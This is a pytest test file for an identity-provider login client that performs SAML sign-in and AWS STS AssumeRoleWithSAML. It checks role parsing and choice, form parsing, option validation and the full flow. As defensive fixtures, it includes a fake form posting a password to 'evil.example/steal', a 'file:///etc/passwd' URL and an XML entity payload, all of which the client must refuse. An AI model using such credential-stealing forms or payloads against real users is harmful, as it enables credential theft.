"""``idp.client`` (``idp login``) without a server process: parsing, choosing, the JSON, and
the whole flow against the in-process app (``TestClient`` standing in for urllib)."""

from __future__ import annotations

import argparse
import base64
import contextlib
import datetime as dt
import gc
import io
import json
import socket
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pyotp
import pytest
from starlette.testclient import TestClient

from idp.aws.errors import AccessDenied
from idp.aws.wire import error_response
from idp.client import (
    Credentials,
    LoginOptions,
    Page,
    UrllibHttp,
    assume_role_with_saml,
    base_url,
    choose_role,
    login,
    options_from_args,
    parse_page,
    parse_sts_answer,
    read_password,
    roles_in_response,
    sign_in,
)
from idp.directory.model import RoleGrant
from idp.errors import IdPError, NoAwsRole
from idp.saml.bindings import PostForm
from idp.web.pages import autopost, error_page, render
from tests.support.demo import (
    ADMIN,
    BASE_URL,
    BOB_ROLE,
    CAROL_SECRET,
    DEV_PROVIDER,
    DEVELOPER,
    PROD_PROVIDER,
    READ_ONLY,
    ROLE_ATTR,
)
from tests.support.saml import decode, encode, set_attribute

OTHER_ADMIN = "arn:aws:iam::444455556666:role/Admin"


def grant(role: str, provider: str = PROD_PROVIDER) -> RoleGrant:
    return RoleGrant(role_arn=role, provider_arn=provider)


# --- the Role attribute ----------------------------------------------------------------------


def test_roles_in_a_genuine_response(bob_saml: str) -> None:
    assert roles_in_response(bob_saml) == (grant(READ_ONLY),)
    assert BOB_ROLE == grant(READ_ONLY).attribute_value


def test_role_values_are_read_in_either_order_without_duplicates(bob_saml: str) -> None:
    root = decode(bob_saml)
    set_attribute(root, ROLE_ATTR, f"{READ_ONLY},{PROD_PROVIDER}",
                  f" {DEV_PROVIDER} , {DEVELOPER} ", f"{PROD_PROVIDER},{READ_ONLY}",
                  "not-a-role-value", f"{READ_ONLY},{DEVELOPER}")
    assert roles_in_response(encode(root)) == (grant(READ_ONLY), grant(DEVELOPER, DEV_PROVIDER))


def test_a_response_without_roles_gives_no_grant(bob_saml: str) -> None:
    root = decode(bob_saml)
    set_attribute(root, ROLE_ATTR)
    assert roles_in_response(encode(root)) == ()


@pytest.mark.parametrize(("value", "message"), [
    ("%%%", "the IdP's SAMLResponse is not valid base64"),
    (base64.b64encode(b"<x/>").decode(), "the IdP's SAMLResponse is a x, not a samlp:Response"),
    (base64.b64encode(b'<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>').decode(),
     "the IdP's SAMLResponse is not acceptable XML: XML document has a DOCTYPE; DTDs and "
     "entities are refused"),
])
def test_unreadable_responses_are_one_line_errors(value: str, message: str) -> None:
    with pytest.raises(IdPError) as caught:
        roles_in_response(value)
    assert str(caught.value) == message


def test_a_non_success_status_is_reported() -> None:
    xml = (b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><samlp:Status>'
           b'<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder">'
           b'<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:NoPassive"/>'
           b'</samlp:StatusCode><samlp:StatusMessage>not signed in</samlp:StatusMessage>'
           b'</samlp:Status></samlp:Response>')
    with pytest.raises(IdPError, match=r"^the IdP answered with SAML status "
                       r"Responder/NoPassive: not signed in$"):
        roles_in_response(base64.b64encode(xml).decode())


# --- choosing the role -----------------------------------------------------------------------

ALICE = (grant(ADMIN), grant(READ_ONLY), grant(DEVELOPER, DEV_PROVIDER))


def test_the_only_role_needs_no_flag() -> None:
    assert choose_role([grant(READ_ONLY)], None) == grant(READ_ONLY)


@pytest.mark.parametrize(("wanted", "expected"), [
    ("ReadOnly", grant(READ_ONLY)),
    ("Developer", grant(DEVELOPER, DEV_PROVIDER)),
    (ADMIN, grant(ADMIN)),
    (DEVELOPER, grant(DEVELOPER, DEV_PROVIDER)),
])
def test_role_by_name_or_arn(wanted: str, expected: RoleGrant) -> None:
    assert choose_role(ALICE, wanted) == expected


def test_a_role_name_with_a_path_is_its_last_segment() -> None:
    pathed = grant("arn:aws:iam::111122223333:role/team/ops/Deployer")
    assert choose_role([grant(ADMIN), pathed], "Deployer") == pathed


def test_several_roles_and_no_flag_lists_them() -> None:
    with pytest.raises(IdPError) as caught:
        choose_role(ALICE, None)
    assert str(caught.value) == (f"this user has 3 roles; pass --role NAME or ARN: {ADMIN}, "
                                 f"{READ_ONLY}, {DEVELOPER}")


def test_an_ambiguous_name_lists_the_matching_arns() -> None:
    grants = [grant(ADMIN), grant(OTHER_ADMIN, DEV_PROVIDER), grant(READ_ONLY)]
    with pytest.raises(IdPError) as caught:
        choose_role(grants, "Admin")
    assert str(caught.value) == (f"--role Admin matches 2 roles; pass --role ARN instead: "
                                 f"{ADMIN}, {OTHER_ADMIN}")
    assert choose_role(grants, OTHER_ADMIN) == grant(OTHER_ADMIN, DEV_PROVIDER)


def test_the_same_role_through_two_providers_names_the_providers() -> None:
    other = "arn:aws:iam::111122223333:saml-provider/Other"
    grants = [grant(ADMIN), grant(ADMIN, other)]
    for wanted in (ADMIN, "Admin"):
        with pytest.raises(IdPError) as caught:
            choose_role(grants, wanted)
        assert str(caught.value) == (
            f"role {ADMIN} is offered through 2 SAML providers and --role cannot choose one: "
            f"{ADMIN} (via {PROD_PROVIDER}), {ADMIN} (via {other})")


def test_an_unknown_role_or_no_role_is_an_error() -> None:
    with pytest.raises(IdPError) as caught:
        choose_role(ALICE, "PowerUser")
    assert str(caught.value) == (f"no role PowerUser among this user's roles: {ADMIN}, "
                                 f"{READ_ONLY}, {DEVELOPER}")
    with pytest.raises(IdPError, match=r"^the IdP sent no AWS role for this user$"):
        choose_role([], None)


# --- reading the real templates --------------------------------------------------------------


def login_html(*, mfa_step: bool, error: str | None = None) -> str:
    response = render("login.html", 401 if error else 200, action="/prefix/idp/login",
                      pending="p-123", csrf_token="tok&en\"1", sp="Amazon Web Services",
                      error=error, username="carol" if mfa_step else None, mfa_step=mfa_step)
    return bytes(response.body).decode()


def test_the_password_form_and_its_hidden_fields() -> None:
    page = parse_page(login_html(mfa_step=False))
    form = page.login_form()
    assert form is not None
    assert form.action == "/prefix/idp/login" and form.method == "post"
    assert dict(form.fields) == {"pending": "p-123", "csrf_token": 'tok&en"1', "username": "",
                                 "password": "", "otp": ""}
    assert page.title == "Sign in" and page.alert == "" and page.field("SAMLResponse") is None


def test_the_code_form_has_no_password_and_shows_its_message() -> None:
    page = parse_page(login_html(mfa_step=True, error="Enter the 6-digit code."))
    form = page.login_form()
    assert form is not None
    assert dict(form.fields) == {"pending": "p-123", "csrf_token": 'tok&en"1', "otp": ""}
    assert page.alert == "Enter the 6-digit code."


def test_the_autopost_page_gives_the_saml_response() -> None:
    html = bytes(autopost(PostForm(action="http://idp.test/aws/saml", saml_field="SAMLResponse",
                                   saml_value="PHNhbWxwOlJlc3BvbnNlLz4=",
                                   relay_state="https://console.aws.amazon.com/")).body)
    page = parse_page(html.decode())
    assert page.field("SAMLResponse") == "PHNhbWxwOlJlc3BvbnNlLz4="
    assert page.field("RelayState") == "https://console.aws.amazon.com/"
    assert page.login_form() is None


def test_an_error_page_gives_its_title_and_message() -> None:
    html = bytes(error_page(NoAwsRole("bob has\n  no role.")).body).decode()
    page = parse_page(html)
    assert (page.title, page.alert, page.forms) == ("No AWS role for this user",
                                                     "bob has no role.", ())


def test_nested_markup_in_the_alert_is_read_as_text() -> None:
    page = parse_page('<p id="aws-error">Bad <b>thing</b>. Click <a href="/x">here</a>.</p>'
                      '<p role="alert">second</p>')
    assert page.alert == "Bad thing. Click here."


# --- STS answers and the JSON ----------------------------------------------------------------

STS_OK = b"""<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <AssumeRoleWithSAMLResult><Credentials>
    <AccessKeyId>ASIAEXAMPLE</AccessKeyId><SecretAccessKey>secret/key</SecretAccessKey>
    <SessionToken>token==</SessionToken><Expiration>2030-01-02T03:04:05Z</Expiration>
  </Credentials></AssumeRoleWithSAMLResult></AssumeRoleWithSAMLResponse>"""


def test_sts_credentials_and_the_credential_process_json() -> None:
    creds = parse_sts_answer(Page(url="http://h/aws/sts", status=200, body=STS_OK,
                                  content_type="text/xml"))
    assert creds == Credentials("ASIAEXAMPLE", "secret/key", "token==",
                                dt.datetime(2030, 1, 2, 3, 4, 5, tzinfo=dt.UTC))
    assert json.loads(creds.credential_process_json()) == {
        "Version": 1, "AccessKeyId": "ASIAEXAMPLE", "SecretAccessKey": "secret/key",
        "SessionToken": "token==", "Expiration": "2030-01-02T03:04:05Z"}
    assert "secret/key" not in repr(creds) and "token==" not in repr(creds)


def test_sts_error_response_gives_code_and_message() -> None:
    body = error_response(AccessDenied("Not authorized to perform sts:AssumeRoleWithSAML"),
                          "req-1")
    with pytest.raises(IdPError) as caught:
        parse_sts_answer(Page(url="http://h/aws/sts?x=1", status=403, body=body))
    assert str(caught.value) == ("STS refused AssumeRoleWithSAML: AccessDenied: Not authorized "
                                 "to perform sts:AssumeRoleWithSAML")


def test_a_non_xml_sts_answer_is_named() -> None:
    with pytest.raises(IdPError) as caught:
        parse_sts_answer(Page(url="http://h/p/aws/sts", status=404, body=b"Not Found",
                              content_type="text/plain"))
    assert str(caught.value) == ("STS at http://h/p/aws/sts answered HTTP 404 with no AWS "
                                 "response document (text/plain)")


# --- options ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("url", "expected"), [
    ("http://127.0.0.1:8000", "http://127.0.0.1:8000"),
    ("HTTPS://idp.example/prefix/", "https://idp.example/prefix"),
    (" http://h:1/a/b// ", "http://h:1/a/b"),
])
def test_base_url_keeps_a_prefix(url: str, expected: str) -> None:
    assert base_url(url) == expected


@pytest.mark.parametrize(("url", "message"), [
    ("ftp://h/", "--url must be an http:// or https:// URL, not ftp://h/"),
    ("file:///etc/passwd", "--url must be an http:// or https:// URL, not file:///etc/passwd"),
    ("127.0.0.1:8000", "--url must be an http:// or https:// URL, not 127.0.0.1:8000"),
    ("http://h:x/", "--url has an invalid port: http://h:x/"),
    ("http://h/?a=1", "--url must be a base URL without '?' or '#': http://h/?a=1"),
    ("http://u:secret@h/", "--url must not carry a user name or password"),
    ("ftp://u:secret@h/", "--url must not carry a user name or password"),
    ("http://h/a b", "--url has spaces or control characters: 'http://h/a b'"),
])
def test_base_url_refuses(url: str, message: str) -> None:
    with pytest.raises(IdPError) as caught:
        base_url(url)
    assert str(caught.value) == message


def test_password_sources_in_order() -> None:
    env = {"IDP_PASSWORD": "from-env"}
    assert read_password("flag", env, io.StringIO("stdin\n"), "bob") == "flag"
    assert read_password(None, env, io.StringIO("stdin\n"), "bob") == "from-env"
    assert read_password(None, {}, io.StringIO("pass word\r\nnext\n"), "bob") == "pass word"
    for flag, stdin in ((None, io.StringIO("")), ("", io.StringIO("x\n")), (None, None)):
        with pytest.raises(IdPError, match=r"^the password is empty: pass --password, set "
                           r"IDP_PASSWORD, or write it on stdin$"):
            read_password(flag, {}, stdin, "bob")


def args(**given: object) -> argparse.Namespace:
    values: dict[str, object] = {"url": "http://h", "user": "bob", "role": None,
                                 "password": "pw", "otp": None, "totp_secret": None,
                                 "duration": None}
    values.update(given)
    return argparse.Namespace(**values)


@pytest.mark.parametrize(("given", "message"), [
    ({"otp": "123456", "totp_secret": CAROL_SECRET}, "pass --otp or --totp-secret, not both"),
    ({"totp_secret": "not base32!"}, "--totp-secret is not a valid base32 secret"),
    ({"user": " "}, "--user is empty"),
    ({"user": "bob\nx"}, "--user has control characters"),
    ({"role": ""}, "--role is empty"),
])
def test_options_refused_before_any_request(given: dict[str, object], message: str) -> None:
    with pytest.raises(IdPError) as caught:
        options_from_args(args(**given), environ={}, stdin=io.StringIO())
    assert str(caught.value) == message  # never the secret or the code themselves


def test_options_read_and_normalised() -> None:
    options = options_from_args(args(url="http://h/p/", password=None, otp=" 123 456 "),
                                environ={"IDP_PASSWORD": "env-pw"}, stdin=io.StringIO())
    assert options == LoginOptions(url="http://h/p", user="bob", password="env-pw",
                                   otp="123456")
    assert "env-pw" not in repr(options)
    secret = options_from_args(args(totp_secret=CAROL_SECRET.lower()), environ={},
                               stdin=io.StringIO())
    before = pyotp.TOTP(CAROL_SECRET).now()
    code = secret.one_time_code()
    assert code in {before, pyotp.TOTP(CAROL_SECRET).now()}  # a 30 s step may end between


# --- the whole flow against the in-process app -----------------------------------------------


class AppHttp:
    """``idp.client.Http`` over the in-process app (httpx follows redirects, keeps cookies)."""

    def __init__(self, client: TestClient) -> None:
        self.client = client
        self.posted: list[tuple[str, dict[str, str]]] = []

    def _page(self, response: Any) -> Page:
        return Page(url=str(response.url), status=response.status_code, body=response.content,
                    content_type=response.headers.get("content-type", "").split(";")[0])

    def get(self, url: str) -> Page:
        return self._page(self.client.get(url, follow_redirects=True))

    def post(self, url: str, fields: Mapping[str, str]) -> Page:
        self.posted.append((url, dict(fields)))
        return self._page(self.client.post(url, data=dict(fields), follow_redirects=True))


def run(client: TestClient, user: str, password: str | None = None, **options: Any
        ) -> Credentials:
    http = AppHttp(client)
    given = LoginOptions(url=BASE_URL, user=user, password=password or f"{user}-password",
                         **options)
    return login(given, http)


def test_bob_signs_in_and_gets_credentials(client: TestClient) -> None:
    http = AppHttp(client)
    creds = login(LoginOptions(url=BASE_URL, user="bob", password="bob-password"), http)
    assert creds.access_key_id.startswith("ASIA")
    remaining = creds.expiration - dt.datetime.now(dt.UTC)
    assert dt.timedelta(minutes=50) < remaining <= dt.timedelta(hours=1, minutes=1)
    # The password went once, to the login form, with the page's hidden fields.
    login_posts = [(url, fields) for url, fields in http.posted if url.endswith("/idp/login")]
    assert len(login_posts) == 1
    assert login_posts[0][0] == f"{BASE_URL}/idp/login"
    assert {"pending", "csrf_token", "username", "password"} <= set(login_posts[0][1])
    sts = [fields for url, fields in http.posted if url == f"{BASE_URL}/aws/sts"]
    assert [(f["RoleArn"], f["PrincipalArn"], f["Version"]) for f in sts] == [
        (READ_ONLY, PROD_PROVIDER, "2011-06-15")]


def test_duration_is_sent_and_refused_beyond_the_role_maximum(client: TestClient) -> None:
    creds = run(client, "bob", duration=900)
    remaining = creds.expiration - dt.datetime.now(dt.UTC)
    assert dt.timedelta(minutes=14) < remaining <= dt.timedelta(minutes=16)
    with pytest.raises(IdPError, match=r"^STS refused AssumeRoleWithSAML: ValidationError: "):
        run(client, "bob", duration=7200)


def test_alice_must_choose(client: TestClient) -> None:
    with pytest.raises(IdPError, match=r"^this user has 3 roles; pass --role NAME or ARN: "):
        run(client, "alice")
    assert run(client, "alice", role="Developer").access_key_id.startswith("ASIA")


def test_carol_needs_a_code(client: TestClient) -> None:
    with pytest.raises(IdPError) as caught:
        run(client, "carol")
    assert str(caught.value) == ("the IdP asks carol for a one-time code: pass --otp CODE or "
                                 "--totp-secret BASE32")
    assert run(client, "carol", totp_secret=CAROL_SECRET).access_key_id.startswith("ASIA")


def test_a_wrong_code_is_the_pages_message(client: TestClient) -> None:
    totp = pyotp.TOTP(CAROL_SECRET)
    now = dt.datetime.now(dt.UTC)
    valid = {totp.at(now + dt.timedelta(seconds=s)) for s in (-60, -30, 0, 30, 60)}
    wrong = next(f"{n:06d}" for n in range(10) if f"{n:06d}" not in valid)
    with pytest.raises(IdPError) as caught:
        run(client, "carol", otp=wrong)
    assert str(caught.value) == "sign-in refused for carol: The one-time code is not correct."


def test_wrong_password_then_throttled(client: TestClient) -> None:
    with pytest.raises(IdPError) as caught:
        run(client, "dave", password="nope")
    assert str(caught.value) == "sign-in refused for dave: Invalid username or password."
    for _ in range(9):
        with pytest.raises(IdPError):
            run(client, "dave", password="nope")
    with pytest.raises(IdPError, match=r"^sign-in throttled for dave: Too many failed sign-in "
                       r"attempts\. Try again in \d+ seconds\.$"):
        run(client, "dave")


def test_a_user_without_roles_gets_the_idps_page(client: TestClient) -> None:
    with pytest.raises(IdPError, match=r"^no SAML response from the IdP: No AWS role for this "
                       r"user: Dave Nobody \(dave\) is not in any group .+ \(HTTP 403 at "
                       r"http://idp\.test/idp/sso\)$"):
        run(client, "dave")


class FakeHttp:
    """Serves canned pages; records what would have been sent."""

    def __init__(self, *pages: Page) -> None:
        self.pages = list(pages)
        self.sent: list[str] = []
        self.fields: list[dict[str, str]] = []

    def get(self, url: str) -> Page:
        self.sent.append(url)
        return self.pages.pop(0)

    def post(self, url: str, fields: Mapping[str, str]) -> Page:
        self.sent.append(url)
        self.fields.append(dict(fields))
        return self.pages.pop(0)


def test_the_password_is_never_posted_to_another_origin() -> None:
    evil = Page(url="http://h/idp/login", status=200, body=(
        b'<form method="post" action="https://evil.example/steal">'
        b'<input type="password" name="password"></form>'))
    http = FakeHttp(evil)
    with pytest.raises(IdPError) as caught:
        sign_in(http, "http://h", "bob", "pw", lambda: None)
    assert str(caught.value) == ("refusing to follow the server off http://h: it has a form "
                                 "posting to https://evil.example/steal")
    assert http.sent == ["http://h/idp/init"]


def test_a_page_that_is_not_html_is_quoted() -> None:
    http = FakeHttp(Page(url="http://h/x/idp/init?a=b", status=404, body=b"Not Found",
                         content_type="text/plain"))
    with pytest.raises(IdPError) as caught:
        sign_in(http, "http://h/x", "bob", "pw", lambda: None)
    assert str(caught.value) == ("no SAML response from the IdP: Not Found (HTTP 404 at "
                                 "http://h/x/idp/init); is --url the simulator's base URL?")


def test_sts_request_shape() -> None:
    http = FakeHttp(Page(url="http://h/p/aws/sts", status=200, body=STS_OK))
    creds = assume_role_with_saml(http, "http://h/p", grant(READ_ONLY), "B64", 900)
    assert http.sent == ["http://h/p/aws/sts"] and creds.access_key_id == "ASIAEXAMPLE"
    assert http.fields == [{"Action": "AssumeRoleWithSAML", "Version": "2011-06-15",
                            "RoleArn": READ_ONLY, "PrincipalArn": PROD_PROVIDER,
                            "SAMLAssertion": "B64", "DurationSeconds": "900"}]


# --- UrllibHttp against a stub HTTP server (no simulator) -------------------------------------


class StubHandler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        routes = {
            "/away": (302, {"Location": "http://other.invalid/x"}, b""),
            "/loop": (302, {"Location": "/loop"}, b""),
            "/set": (303, {"Location": "/echo", "Set-Cookie": "k=v; Path=/; HttpOnly"}, b""),
            "/echo": (200, {}, (self.headers.get("Cookie") or "").encode()),
            "/denied": (401, {"Content-Type": "text/html"}, b'<p id="error">nope</p>'),
        }
        status, headers, body = routes.get(self.path, (404, {}, b"Not Found"))
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def stub() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), StubHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_urllib_keeps_cookies_across_redirects_and_reads_error_pages(stub: str) -> None:
    http = UrllibHttp(stub)
    echoed = http.get(f"{stub}/set")
    assert (echoed.url, echoed.status, echoed.body) == (f"{stub}/echo", 200, b"k=v")
    denied = http.get(f"{stub}/denied")
    assert (denied.status, parse_page(denied.text).alert) == (401, "nope")


def open_connections_to(url: str) -> list[socket.socket]:
    port = int(url.rsplit(":", 1)[1])
    found = []
    for thing in gc.get_objects():
        if (isinstance(thing, socket.socket) and thing.fileno() != -1
                and thing.family in (socket.AF_INET, socket.AF_INET6)):  # not AF_UNIX
            with contextlib.suppress(OSError):
                if thing.getpeername()[1] == port:
                    found.append(thing)
    return found


def test_urllib_never_leaves_the_origin(stub: str) -> None:
    with pytest.raises(IdPError) as caught:
        UrllibHttp(stub).get(f"{stub}/away")
    # The refused redirect's response is closed at once, not left to the garbage collector
    # (which may finalize the socket first: a ResourceWarning at some later test).
    assert open_connections_to(stub) == []
    assert str(caught.value) == (f"refusing to follow the server off {stub}: it redirected to "
                                 "http://other.invalid/x")
    with pytest.raises(IdPError, match=r"^refusing to follow the server off"):
        UrllibHttp(stub).post("http://other.invalid/login", {"password": "pw"})
    with pytest.raises(IdPError, match=r"^too many redirects from http://127\.0\.0\.1:\d+$"):
        UrllibHttp(stub).get(f"{stub}/loop")


def test_urllib_connection_refused_and_timeout() -> None:
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
    with pytest.raises(IdPError) as caught:
        UrllibHttp(f"http://127.0.0.1:{port}").get(f"http://127.0.0.1:{port}/idp/init")
    assert str(caught.value) == f"cannot reach http://127.0.0.1:{port}: connection refused"
    with socket.socket() as silent:  # accepts connections (backlog), never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen(1)
        url = f"http://127.0.0.1:{silent.getsockname()[1]}"
        with pytest.raises(IdPError) as caught:
            UrllibHttp(url, timeout=0.3).get(f"{url}/idp/init")
    assert str(caught.value) == f"cannot reach {url}: no answer within 0.3 s"
